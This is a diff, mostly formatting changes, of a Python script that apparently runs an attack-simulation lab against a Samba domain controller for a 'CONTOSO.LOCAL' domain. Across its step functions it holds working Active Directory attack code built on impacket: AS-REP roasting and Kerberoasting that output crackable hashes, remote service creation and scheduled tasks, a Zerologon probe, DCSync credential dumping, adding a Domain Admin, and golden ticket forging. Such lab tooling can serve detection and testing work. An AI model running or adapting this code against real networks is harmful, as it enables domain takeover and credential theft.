@@ -21,15 +21,15 @@ import sys
 import time
 from pathlib import Path
 
-from lab import impacket_patches  # noqa: F401  - applies the Samba fixes first
+from impacket.dcerpc.v5 import transport
+from impacket.krb5 import constants
+from impacket.krb5.ccache import CCache
+from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
+from impacket.krb5.types import Principal
+from impacket.ntlm import compute_nthash
+from impacket.smbconnection import SMBConnection
 
-from impacket.dcerpc.v5 import transport  # noqa: E402
-from impacket.krb5 import constants  # noqa: E402
-from impacket.krb5.ccache import CCache  # noqa: E402
-from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT  # noqa: E402
-from impacket.krb5.types import Principal  # noqa: E402
-from impacket.ntlm import compute_nthash  # noqa: E402
-from impacket.smbconnection import SMBConnection  # noqa: E402
+from lab import impacket_patches
 
 REALM = "CONTOSO.LOCAL"
 DOMAIN = "CONTOSO"
@@ -50,11 +50,13 @@ def nthash_of(password: str) -> str:
 
 # --------------------------------------------------------------------------- kerberos helpers
 
+
 def tgt(user: str, password: str = "", nthash: str = "", aes: str = ""):
     """AS exchange; returns (tgt, cipher, oldSessionKey, sessionKey). RC4-only if only nthash."""
     principal = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
-    return getKerberosTGT(principal, password, REALM, b"", bytes.fromhex(nthash) if nthash
-                          else b"", aes, kdcHost=DC)
+    return getKerberosTGT(
+        principal, password, REALM, b"", bytes.fromhex(nthash) if nthash else b"", aes, kdcHost=DC
+    )
 
 
 def save_tgt(t, path: Path) -> None:
@@ -76,17 +78,24 @@ def load_ccache(path: Path):
 def tgs(t: dict, spn: str, etypes=None):
     """TGS exchange with a TGT dict ({'KDC_REP','cipher','sessionKey'})."""
     from impacket.krb5 import kerberosv5
+
     server = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
-    return kerberosv5.getKerberosTGS(server, REALM, DC, t["KDC_REP"], t["cipher"],
-                                     t["sessionKey"], etypes=etypes)
+    return kerberosv5.getKerberosTGS(
+        server, REALM, DC, t["KDC_REP"], t["cipher"], t["sessionKey"], etypes=etypes
+    )
 
 
 def as_tgt_dict(t) -> dict:
     return {"KDC_REP": t[0], "cipher": t[1], "sessionKey": t[3]}
 
 
-def smb(user: str = "", password: str = "", nthash: str = "", kerberos_tgt: dict | None = None,
-        domain: str = DOMAIN) -> SMBConnection:
+def smb(
+    user: str = "",
+    password: str = "",
+    nthash: str = "",
+    kerberos_tgt: dict | None = None,
+    domain: str = DOMAIN,
+) -> SMBConnection:
     conn = SMBConnection(DC, DC_IP, sess_port=445)
     if kerberos_tgt is not None:
         conn.kerberosLogin(user, "", REALM, TGT=kerberos_tgt, kdcHost=DC, useCache=False)
@@ -118,6 +127,7 @@ def krb_error(e: Exception) -> str:
 
 # --------------------------------------------------------------------------- steps
 
+
 def step_smb_login(args):
     """Log on to the DC over SMB, list shares, optionally read files from a share."""
     conn = smb(**creds_from(args))
@@ -130,6 +140,7 @@ def step_smb_login(args):
 
             def cb(data, n=n):
                 n[0] += len(data)
+
             conn.getFile(share, path, cb)
             out(f"read \\\\{DC}\\{share}\\{path}: {n[0]} bytes")
         except Exception as e:  # noqa: BLE001
@@ -150,6 +161,7 @@ def step_smb_login(args):
 def step_session_enum(args):
     """NetrSessionEnum over \\pipe\\srvsvc (levels 10, 502, 1, 0)."""
     from impacket.dcerpc.v5 import srvs
+
     conn = smb(**creds_from(args))
     dce = rpc_over_smb(conn, r"\srvsvc")
     dce.bind(srvs.MSRPC_UUID_SRVS)
@@ -159,8 +171,8 @@ def step_session_enum(args):
             buf = resp["InfoStruct"]["SessionInfo"][f"Level{level}"]["Buffer"]
             sess = []
             for s in buf:
-                cname = s["sesi%d_cname" % level][:-1]
-                uname = s["sesi%d_username" % level][:-1] if level != 0 else ""
+                cname = s[f"sesi{level}_cname"][:-1]
+                uname = s[f"sesi{level}_username"][:-1] if level != 0 else ""
                 sess.append(f"{cname}:{uname}")
             out(f"NetrSessionEnum level {level}: {len(sess)} sessions {sess}")
         except Exception as e:  # noqa: BLE001
@@ -172,6 +184,7 @@ def step_session_enum(args):
 def step_samr_recon(args):
     """SAMR: connect, enumerate domains, users, Domain Admins members, lookup RIDs."""
     from impacket.dcerpc.v5 import samr
+
     conn = smb(**creds_from(args))
     dce = rpc_over_smb(conn, r"\samr")
     dce.bind(samr.MSRPC_UUID_SAMR)
@@ -190,8 +203,9 @@ def step_samr_recon(args):
         rids = [m["Data"] for m in mem]
         names = []
         if rids:
-            names = [n["Data"] for n in samr.hSamrLookupIdsInDomain(dce, dh, rids)
-                     ["Names"]["Element"]]
+            names = [
+                n["Data"] for n in samr.hSamrLookupIdsInDomain(dce, dh, rids)["Names"]["Element"]
+            ]
         out(f"{label} members: {names}")
         samr.hSamrCloseHandle(dce, gh)
     # BUILTIN\Administrators
@@ -206,41 +220,76 @@ def step_samr_recon(args):
 
 def ldap_conn(args):
     import ldap3
+
     server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
     if args.ccache:
         raise SystemExit("ldap with a ccache is not used by the lab")
     # simple bind (Samba: "ldap server require strong auth = no"); Samba does not speak the
     # Sicily NTLM bind that ldap3's NTLM mode uses, and SASL binds would seal the queries
-    conn = ldap3.Connection(server, user=f"{args.user}@{FQDN_DOMAIN}", password=args.password,
-                            authentication=ldap3.SIMPLE, auto_bind=True)
+    conn = ldap3.Connection(
+        server,
+        user=f"{args.user}@{FQDN_DOMAIN}",
+        password=args.password,
+        authentication=ldap3.SIMPLE,
+        auto_bind=True,
+    )
     return conn
 
 
 def step_ldap_recon(args):
     """BloodHound/SharpHound-like LDAP collection queries."""
     import ldap3
+
     conn = ldap_conn(args)
     base = "DC=contoso,DC=local"
-    conn.search("", "(objectClass=*)", search_scope=ldap3.BASE,
-                attributes=["defaultNamingContext", "configurationNamingContext",
-                            "schemaNamingContext", "dnsHostName"])
+    conn.search(
+        "",
+        "(objectClass=*)",
+        search_scope=ldap3.BASE,
+        attributes=[
+            "defaultNamingContext",
+            "configurationNamingContext",
+            "schemaNamingContext",
+            "dnsHostName",
+        ],
+    )
     queries = [
         ("(objectClass=domain)", ["objectSid", "ms-DS-MachineAccountQuota", "gPLink"]),
-        ("(samAccountType=805306368)", ["sAMAccountName", "distinguishedName",
-                                        "userAccountControl", "memberOf", "pwdLastSet",
-                                        "lastLogon", "servicePrincipalName", "adminCount",
-                                        "objectSid"]),
-        ("(|(samAccountType=268435456)(samAccountType=268435457)(samAccountType=536870912)"
-         "(samAccountType=536870913))", ["sAMAccountName", "member", "objectSid"]),
+        (
+            "(samAccountType=805306368)",
+            [
+                "sAMAccountName",
+                "distinguishedName",
+                "userAccountControl",
+                "memberOf",
+                "pwdLastSet",
+                "lastLogon",
+                "servicePrincipalName",
+                "adminCount",
+                "objectSid",
+            ],
+        ),
+        (
+            "(|(samAccountType=268435456)(samAccountType=268435457)(samAccountType=536870912)"
+            "(samAccountType=536870913))",
+            ["sAMAccountName", "member", "objectSid"],
+        ),
         ("(objectCategory=group)", ["cn", "member"]),
         ("(adminCount=1)", ["sAMAccountName", "memberOf"]),
-        ("(&(samAccountType=805306368)(servicePrincipalName=*))",
-         ["sAMAccountName", "servicePrincipalName"]),
-        ("(&(objectCategory=person)(objectClass=user)"
-         "(userAccountControl:1.2.840.113556.1.4.803:=4194304))", ["sAMAccountName"]),
+        (
+            "(&(samAccountType=805306368)(servicePrincipalName=*))",
+            ["sAMAccountName", "servicePrincipalName"],
+        ),
+        (
+            "(&(objectCategory=person)(objectClass=user)"
+            "(userAccountControl:1.2.840.113556.1.4.803:=4194304))",
+            ["sAMAccountName"],
+        ),
         ("(userAccountControl:1.2.840.113556.1.4.803:=524288)", ["sAMAccountName"]),
-        ("(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
-         ["dNSHostName"]),
+        (
+            "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
+            ["dNSHostName"],
+        ),
         ("(objectClass=computer)", ["dNSHostName", "operatingSystem", "servicePrincipalName"]),
         ("(objectClass=groupPolicyContainer)", ["displayName", "gPCFileSysPath"]),
         ("(objectClass=trustedDomain)", ["trustPartner", "trustDirection"]),
@@ -254,14 +303,42 @@ def step_ldap_recon(args):
 
 
 def step_user_enum(args):
-    """AS-REQs (no pre-auth) for many candidate names: KDC_ERR_C_PRINCIPAL_UNKNOWN for absent ones."""
+    """AS-REQs for many candidate names: KDC_ERR_C_PRINCIPAL_UNKNOWN for absent ones."""
     names = args.names or []
     if args.count:
         rnd = random.Random(7)
-        first = ["john", "mary", "james", "linda", "robert", "susan", "michael", "karen",
-                 "william", "nancy", "david", "lisa", "richard", "betty", "joseph", "helen",
-                 "thomas", "sandra", "charles", "donna", "admin", "test", "guest", "backup",
-                 "sql", "web", "oracle", "ftp", "scanner", "printer"]
+        first = [
+            "john",
+            "mary",
+            "james",
+            "linda",
+            "robert",
+            "susan",
+            "michael",
+            "karen",
+            "william",
+            "nancy",
+            "david",
+            "lisa",
+            "richard",
+            "betty",
+            "joseph",
+            "helen",
+            "thomas",
+            "sandra",
+            "charles",
+            "donna",
+            "admin",
+            "test",
+            "guest",
+            "backup",
+            "sql",
+            "web",
+            "oracle",
+            "ftp",
+            "scanner",
+            "printer",
+        ]
         while len(names) < args.count:
             n = rnd.choice(first) + rnd.choice(["", ".smith", ".jones", "1", "2", ".adm"])
             if n not in names:
@@ -311,6 +388,7 @@ def step_asrep_roast(args):
     from impacket.krb5.types import KerberosTime
     from pyasn1.codec.der import decoder, encoder
     from pyasn1.type.univ import noValue
+
     for user in args.users:
         req = AS_REQ()
         req["pvno"] = 5
@@ -319,18 +397,32 @@ def step_asrep_roast(args):
         pac["include-pac"] = True
         req["padata"] = noValue
         req["padata"][0] = noValue
-        req["padata"][0]["padata-type"] = int(constants.PreAuthenticationDataTypes.PA_PAC_REQUEST.value)
+        req["padata"][0]["padata-type"] = int(
+            constants.PreAuthenticationDataTypes.PA_PAC_REQUEST.value
+        )
         req["padata"][0]["padata-value"] = encoder.encode(pac)
         body = seq_set(req, "req-body")
-        body["kdc-options"] = constants.encodeFlags([
-            constants.KDCOptions.forwardable.value, constants.KDCOptions.renewable.value,
-            constants.KDCOptions.proxiable.value])
-        seq_set(body, "sname", Principal(f"krbtgt/{REALM}",
-                type=constants.PrincipalNameType.NT_SRV_INST.value).components_to_asn1)
-        seq_set(body, "cname", Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
-                .components_to_asn1)
+        body["kdc-options"] = constants.encodeFlags(
+            [
+                constants.KDCOptions.forwardable.value,
+                constants.KDCOptions.renewable.value,
+                constants.KDCOptions.proxiable.value,
+            ]
+        )
+        seq_set(
+            body,
+            "sname",
+            Principal(
+                f"krbtgt/{REALM}", type=constants.PrincipalNameType.NT_SRV_INST.value
+            ).components_to_asn1,
+        )
+        seq_set(
+            body,
+            "cname",
+            Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value).components_to_asn1,
+        )
         body["realm"] = REALM
-        now = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1)
+        now = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=1)
         body["till"] = KerberosTime.to_asn1(now)
         body["rtime"] = KerberosTime.to_asn1(now)
         body["nonce"] = random.getrandbits(31)
@@ -344,12 +436,15 @@ def step_asrep_roast(args):
             rep = decoder.decode(r, asn1Spec=AS_REP())[0]
         except Exception:  # noqa: BLE001 - a KRB-ERROR (e.g. PREAUTH_REQUIRED) comes back raw
             from impacket.krb5.asn1 import KRB_ERROR
+
             err = decoder.decode(r, asn1Spec=KRB_ERROR())[0]
             out(f"{user}: {constants.ErrorCodes(int(err['error-code'])).name}")
             continue
         ct = rep["enc-part"]["cipher"].asOctets()
-        out(f"{user}: AS-REP without pre-auth, etype {int(rep['enc-part']['etype'])}: "
-            f"$krb5asrep$23${user}@{REALM}:{ct[:16].hex()}${ct[16:40].hex()}...")
+        out(
+            f"{user}: AS-REP without pre-auth, etype {int(rep['enc-part']['etype'])}: "
+            f"$krb5asrep$23${user}@{REALM}:{ct[:16].hex()}${ct[16:40].hex()}..."
+        )
 
 
 def step_kerberoast(args):
@@ -360,6 +455,7 @@ def step_kerberoast(args):
             r, _c, _o, _k = tgs(t, spn, etypes=[ENC_RC4])
             from impacket.krb5.asn1 import TGS_REP
             from pyasn1.codec.der import decoder
+
             rep = decoder.decode(r, asn1Spec=TGS_REP())[0]
             et = int(rep["ticket"]["enc-part"]["etype"])
             ct = rep["ticket"]["enc-part"]["cipher"].asOctets()
@@ -373,8 +469,10 @@ def step_asktgt(args):
     t = tgt(args.user, args.password or "", args.nthash or "", args.aes or "")
     if args.save:
         save_tgt(t, Path(args.save))
-    out(f"TGT for {args.user} (session key etype {int(t[3].enctype)})"
-        + (f" saved to {args.save}" if args.save else ""))
+    out(
+        f"TGT for {args.user} (session key etype {int(t[3].enctype)})"
+        + (f" saved to {args.save}" if args.save else "")
+    )
     if args.use_spn:
         for spn in args.use_spn:
             tgs(as_tgt_dict(t), spn)
@@ -389,17 +487,24 @@ def step_asktgt(args):
 def step_svcctl(args):
     """svcctl: OpenSCManagerW, CreateServiceW(binpath), StartServiceW, DeleteService."""
     from impacket.dcerpc.v5 import scmr
+
     conn = smb(**creds_from(args))
     dce = rpc_over_smb(conn, r"\svcctl")
     dce.bind(scmr.MSRPC_UUID_SCMR)
-    scm = scmr.hROpenSCManagerW(dce, "DC01\x00", "ServicesActive\x00",
-                                0xF003F)["lpScHandle"]  # SC_MANAGER_ALL_ACCESS
+    scm = scmr.hROpenSCManagerW(dce, "DC01\x00", "ServicesActive\x00", 0xF003F)[
+        "lpScHandle"
+    ]  # SC_MANAGER_ALL_ACCESS
     out("OpenSCManagerW ok")
     svc = None
     try:
-        resp = scmr.hRCreateServiceW(dce, scm, args.name + "\x00", args.name + "\x00",
-                                     lpBinaryPathName=args.binpath + "\x00",
-                                     dwStartType=scmr.SERVICE_DEMAND_START)
+        resp = scmr.hRCreateServiceW(
+            dce,
+            scm,
+            args.name + "\x00",
+            args.name + "\x00",
+            lpBinaryPathName=args.binpath + "\x00",
+            dwStartType=scmr.SERVICE_DEMAND_START,
+        )
         svc = resp["lpServiceHandle"]
         out(f"CreateServiceW {args.name} ok")
     except Exception as e:  # noqa: BLE001
@@ -409,8 +514,10 @@ def step_svcctl(args):
         except Exception as e2:  # noqa: BLE001
             out(f"OpenServiceW {args.name}: {str(e2)[:100]}")
     if svc is not None:
-        for fn, label in ((scmr.hRStartServiceW, "StartServiceW"),
-                          (scmr.hRDeleteService, "DeleteService")):
+        for fn, label in (
+            (scmr.hRStartServiceW, "StartServiceW"),
+            (scmr.hRDeleteService, "DeleteService"),
+        ):
             try:
                 fn(dce, svc)
                 out(f"{label} ok")
@@ -438,14 +545,21 @@ def step_atsvc(args):
     """Task Scheduler: SchRpcRegisterTask over \\pipe\\atsvc (ITaskSchedulerService) and the
     legacy NetrJobAdd. Samba has no atsvc endpoint: the pipe open is refused but is on the wire."""
     from impacket.dcerpc.v5 import atsvc, tsch
+
     conn = smb(**creds_from(args))
     for label, uuid in (("tsch", tsch.MSRPC_UUID_TSCHS), ("atsvc", atsvc.MSRPC_UUID_ATSVC)):
         try:
             dce = rpc_over_smb(conn, r"\atsvc")
             dce.bind(uuid)
             if label == "tsch":
-                tsch.hSchRpcRegisterTask(dce, f"\\{args.name}", TASK_XML.format(cmd=args.cmd),
-                                         tsch.TASK_CREATE, tsch.NULL, tsch.TASK_LOGON_NONE)
+                tsch.hSchRpcRegisterTask(
+                    dce,
+                    f"\\{args.name}",
+                    TASK_XML.format(cmd=args.cmd),
+                    tsch.TASK_CREATE,
+                    tsch.NULL,
+                    tsch.TASK_LOGON_NONE,
+                )
                 out(f"SchRpcRegisterTask \\{args.name} ok")
             else:
                 info = atsvc.AT_INFO()
@@ -466,6 +580,7 @@ def step_bkrp(args):
     """MS-BKRP BackuprKey(BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID) over \\pipe\\protected_storage."""
     from impacket.dcerpc.v5 import bkrp
     from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
+
     conn = smb(**creds_from(args))
     rpct = transport.SMBTransport(DC_IP, 445, r"\protected_storage", smb_connection=conn)
     dce = rpct.get_dce_rpc()
@@ -486,6 +601,7 @@ def step_zerologon(args):
     """NetrServerReqChallenge + NetrServerAuthenticate3 with an all-zero credential, repeated
     (CVE-2020-1472 probe; Samba is not vulnerable)."""
     from impacket.dcerpc.v5 import epm, nrpc
+
     binding = epm.hept_map(DC_IP, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
     rpct = transport.DCERPCTransportFactory(binding)
     dce = rpct.get_dce_rpc()
@@ -495,9 +611,15 @@ def step_zerologon(args):
     for _i in range(args.attempts):
         try:
             nrpc.hNetrServerReqChallenge(dce, "\\\\DC01\x00", "DC01\x00", b"\x00" * 8)
-            nrpc.hNetrServerAuthenticate3(dce, "\\\\DC01\x00", "DC01$\x00",
-                                          nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
-                                          "DC01\x00", b"\x00" * 8, 0x212FFFFF)
+            nrpc.hNetrServerAuthenticate3(
+                dce,
+                "\\\\DC01\x00",
+                "DC01$\x00",
+                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
+                "DC01\x00",
+                b"\x00" * 8,
+                0x212FFFFF,
+            )
             ok += 1
         except Exception as e:  # noqa: BLE001
             err = str(e)
@@ -509,10 +631,12 @@ def step_zerologon(args):
 
 def step_dns_axfr(args):
     """DNS zone transfer (AXFR over TCP) for the AD zone, plus a few SRV look-ups over UDP."""
+
     def q(name: str, qtype: int, tid: int) -> bytes:
         hdr = struct.pack(">HHHHHH", tid, 0x0100 if qtype != 252 else 0, 1, 0, 0, 0)
         qn = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
         return hdr + qn + struct.pack(">HH", qtype, 1)
+
     for name in args.srv:
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.settimeout(3)
@@ -544,17 +668,27 @@ def step_dns_axfr(args):
 def step_add_admin(args):
     """As an admin over LDAP: create a user, add it to Domain Admins and BUILTIN\\Administrators."""
     import ldap3
+
     conn = ldap_conn(args)
     base = "DC=contoso,DC=local"
     dn = f"CN={args.new_user},CN=Users,{base}"
-    ok = conn.add(dn, ["top", "person", "organizationalPerson", "user"],
-                  {"sAMAccountName": args.new_user, "userPrincipalName":
-                   f"{args.new_user}@{FQDN_DOMAIN}", "userAccountControl": 0x202,
-                   "description": "created by lab"})
+    ok = conn.add(
+        dn,
+        ["top", "person", "organizationalPerson", "user"],
+        {
+            "sAMAccountName": args.new_user,
+            "userPrincipalName": f"{args.new_user}@{FQDN_DOMAIN}",
+            "userAccountControl": 0x202,
+            "description": "created by lab",
+        },
+    )
     out(f"add {dn}: {conn.result['description']}")
     for grp in args.groups:
-        gdn = (f"CN={grp},CN=Users,{base}" if grp != "Administrators"
-               else f"CN=Administrators,CN=Builtin,{base}")
+        gdn = (
+            f"CN={grp},CN=Users,{base}"
+            if grp != "Administrators"
+            else f"CN=Administrators,CN=Builtin,{base}"
+        )
         conn.modify(gdn, {"member": [(ldap3.MODIFY_ADD, [dn])]})
         out(f"add member to {grp}: {conn.result['description']}")
     if args.cleanup_after:
@@ -569,21 +703,32 @@ def step_dcsync(args):
     """secretsdump -just-dc-user: DRSBind, DRSCrackNames, DRSGetNCChanges(EXOP_REPL_OBJ) from a
     workstation. Writes the secrets of --target-user to $DCW_LAB_WORK/<user>.secrets.json."""
     from impacket.examples.secretsdump import NTDSHashes, RemoteOperations
+
     c = creds_from(args)
     conn = smb(**c)
     kerberos = c.get("kerberos_tgt") is not None
     if kerberos:
         # RemoteOperations re-authenticates DRSUAPI with the SMB connection's credentials; give
         # it the ticket so it can ask for the ldap/E3514235-... service ticket itself
-        conn._SMBConnection__kerberos = True  # noqa: SLF001
+        conn._SMBConnection__kerberos = True
     ro = RemoteOperations(conn, kerberos, DC)
     secrets: list[str] = []
 
     def cb(kind, secret):
         secrets.append(secret)
         out(f"secret ({kind}): {secret}")
-    nt = NTDSHashes(None, None, isRemote=True, remoteOps=ro, noLMHash=True, justNTLM=False,
-                    justUser=f"{DOMAIN}\\{args.target_user}", printUserStatus=False, perSecretCallback=cb)
+
+    nt = NTDSHashes(
+        None,
+        None,
+        isRemote=True,
+        remoteOps=ro,
+        noLMHash=True,
+        justNTLM=False,
+        justUser=f"{DOMAIN}\\{args.target_user}",
+        printUserStatus=False,
+        perSecretCallback=cb,
+    )
     try:
         nt.dump()
     finally:
@@ -606,6 +751,7 @@ def step_dcsync(args):
 def load_ticketer():
     """impacket's examples/ticketer.py (installed as a script) loaded as a module."""
     import importlib.util
+
     path = Path(sys.executable).parent / "ticketer.py"
     spec = importlib.util.spec_from_file_location("dcw_ticketer", path)
     mod = importlib.util.module_from_spec(spec)
@@ -619,16 +765,32 @@ def step_golden(args):
     session. --kvno is the krbtgt key version (Samba's is 1, ticketer assumes 2)."""
     from impacket.krb5.asn1 import AS_REP
     from pyasn1.codec.der import decoder
+
     tk = load_ticketer()
     impacket_patches.patch_ticketer(tk, args.kvno)
     secrets = json.loads((WORK / "krbtgt.secrets.json").read_text())
     o = argparse.Namespace(
-        spn=None, request=False, domain=FQDN_DOMAIN, domain_sid=args.domain_sid,
+        spn=None,
+        request=False,
+        domain=FQDN_DOMAIN,
+        domain_sid=args.domain_sid,
         aesKey=None if args.rc4 else secrets.get("aes256"),
-        nthash=secrets["nthash"] if args.rc4 else None, keytab=None,
-        groups="513, 512, 520, 518, 519", user_id=str(args.user_id), extra_sid=None,
-        extra_pac=False, old_pac=False, duration=str(args.duration), ts=False, debug=False,
-        user=None, password=None, hashes=None, dc_ip=DC_IP, impersonate=None)
+        nthash=secrets["nthash"] if args.rc4 else None,
+        keytab=None,
+        groups="513, 512, 520, 518, 519",
+        user_id=str(args.user_id),
+        extra_sid=None,
+        extra_pac=False,
+        old_pac=False,
+        duration=str(args.duration),
+        ts=False,
+        debug=False,
+        user=None,
+        password=None,
+        hashes=None,
+        dc_ip=DC_IP,
+        impersonate=None,
+    )
     t = tk.TICKETER(args.impersonate, "", FQDN_DOMAIN, o)
     kdcRep, adIfRelevant = t.createBasicTicket()
     encPart, encTicketPart, pacInfos = t.customizeTicket(kdcRep, adIfRelevant)
@@ -637,8 +799,10 @@ def step_golden(args):
     cc = CCache()
     cc.fromTGT(ticket, sessionKey, sessionKey)
     cc.saveFile(str(WORK / "golden.ccache"))
-    out(f"forged TGT for {args.impersonate} (RID {args.user_id}), etype "
-        f"{int(rep['ticket']['enc-part']['etype'])}, kvno {args.kvno}, {args.duration} h")
+    out(
+        f"forged TGT for {args.impersonate} (RID {args.user_id}), etype "
+        f"{int(rep['ticket']['enc-part']['etype'])}, kvno {args.kvno}, {args.duration} h"
+    )
     tdict = {"KDC_REP": ticket, "cipher": cipher, "sessionKey": sessionKey}
     for spn in ("cifs/dc01.contoso.local", "ldap/dc01.contoso.local"):
         try:
